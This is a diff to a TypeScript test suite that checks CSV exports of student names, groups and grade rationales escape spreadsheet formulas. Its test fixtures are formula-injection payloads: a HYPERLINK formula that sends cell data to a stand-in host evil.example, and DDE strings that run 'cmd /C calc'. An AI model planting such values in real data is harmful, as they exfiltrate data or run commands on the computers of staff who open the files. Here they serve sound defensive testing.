@@ -20,8 +20,8 @@ let people: People;
 freshEachTest(test, (world) => ({ env, people } = world));
 
 const FIRST_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-const NICKNAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-const GROUP = '+1+cmd|\' /C calc\'!A0';
+const NICKNAME = "@SUM(1+1)*cmd|' /C calc'!A0";
+const GROUP = "+1+cmd|' /C calc'!A0";
 const TRIGGERS = /^[=+\-@\t\r]/;
 
 /** Every cell of a CSV text, as a spreadsheet would see it. */
@@ -67,7 +67,11 @@ test("the student's names and group reach every staff CSV only behind a single q
   ];
   for (const [what, text, values] of exports) {
     const all = cells(text);
-    assert.equal(all.filter((c) => TRIGGERS.test(c)), [], `${what}: no cell starts like a formula`);
+    assert.equal(
+      all.filter((c) => TRIGGERS.test(c)),
+      [],
+      `${what}: no cell starts like a formula`,
+    );
     for (const value of values) assert.ok(all.includes(`'${value}`), `${what}: ${value} is there, escaped once`);
   }
 });
@@ -97,7 +101,11 @@ test('imports take what the exports give: the groups CSVs upload back unchanged'
     assert.is(res.body.ignored.length, 1, which);
   }
   const groups = await env.orm.em.fork().find(Group, { groupSet: w.set });
-  assert.equal(groups.map((g) => g.name), [GROUP], 'no group named with the quote');
+  assert.equal(
+    groups.map((g) => g.name),
+    [GROUP],
+    'no group named with the quote',
+  );
 });
 
 test('imports take what the exports give: a users CSV row becomes a user with the name as written', async () => {
@@ -120,13 +128,17 @@ test('the grades CSV and the task completion CSV escape a rationale that starts 
   const w = await world();
   const graded = await api(env, 'PUT', `/api/projects/${w.project}`, {
     as: people.convenor.creds,
-    json: { grade: 70, old_grade: 0, grade_rationale: '-2+3+cmd|\' /C calc\'!A0' },
+    json: { grade: 70, old_grade: 0, grade_rationale: "-2+3+cmd|' /C calc'!A0" },
   });
   assert.is(graded.status, 200, graded.text);
   for (const url of [`/api/units/${w.unit}/grades`, `/api/csv/units/${w.unit}/task_completion`]) {
     const all = cells(await download(url));
     assert.ok(all.includes("'-2+3+cmd|' /C calc'!A0"), url);
-    assert.equal(all.filter((c) => TRIGGERS.test(c)), [], url);
+    assert.equal(
+      all.filter((c) => TRIGGERS.test(c)),
+      [],
+      url,
+    );
   }
 });
 
